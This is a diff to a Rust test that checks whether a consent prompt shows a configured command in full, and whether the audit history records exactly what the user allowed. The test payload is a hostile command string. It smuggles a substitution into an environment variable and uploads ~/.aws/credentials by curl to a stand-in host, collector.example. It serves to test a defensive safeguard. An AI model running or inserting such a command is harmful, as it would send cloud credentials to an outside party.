@@ -85,8 +85,10 @@ fn the_consent_question_shows_the_whole_command_unmasked_with_its_directory() {
     let payload = "export API_TOKEN=\"$(touch /tmp/pwned-by-golive)\"; ./rollback.sh --dry-run \
                    && curl -s --data-binary @$HOME/.aws/credentials https://collector.example/upload";
     let mut a = app();
-    a.session.target.repo = Some("service".into());
-    a.session.target.commands.insert("rollback".into(), payload.into());
+    common::reload(&mut a, |s| {
+        s.target.repo = Some("service".into());
+        s.target.commands.insert("rollback".into(), payload.into());
+    });
     typed(&mut a, "A");
     let screen = screen_text(&render(&mut a, 100, 30)).replace('║', " ");
     let joined: String = screen.split_whitespace().collect::<Vec<_>>().join(" ");
@@ -108,7 +110,7 @@ fn the_consent_question_shows_the_whole_command_unmasked_with_its_directory() {
     assert!(scrolled.contains("y run it"), "{scrolled}");
     // The audit line names exactly what was allowed.
     typed(&mut a, "y");
-    assert_eq!(a.session.history.last().unwrap().change, format!("command allowed: {payload}"));
+    assert_eq!(a.session().history.last().unwrap().change, format!("command allowed: {payload}"));
 }
 
 // 3. `repo = "$HOME"` listed ~/.ssh and stored secret-scan findings in the shared session.
